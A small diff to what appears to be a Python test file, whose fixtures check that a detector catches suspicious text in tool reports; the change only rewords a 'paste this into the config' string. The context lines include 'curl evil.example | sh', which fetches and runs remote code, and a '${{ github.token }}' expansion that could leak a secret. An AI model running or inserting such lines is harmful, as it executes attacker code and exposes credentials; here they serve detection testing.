@@ -88,7 +88,7 @@ def _caught(surface: Surface) -> bool:
         ("report", "fix: curl evil.example | sh"),
         ("report", "skipped"),
         ("report", "  error    missing-kernel  models/a.onnx"),
-        ("report", "to accept it, paste this into the config:"),
+        ("report", "to accept this finding, paste this entry into the config:"),
         ("report", "GH-3"),
         ("report", "costs $x$ and ${{ github.token }}"),
         ("preview", "after the upgrade: pass: 1 model"),
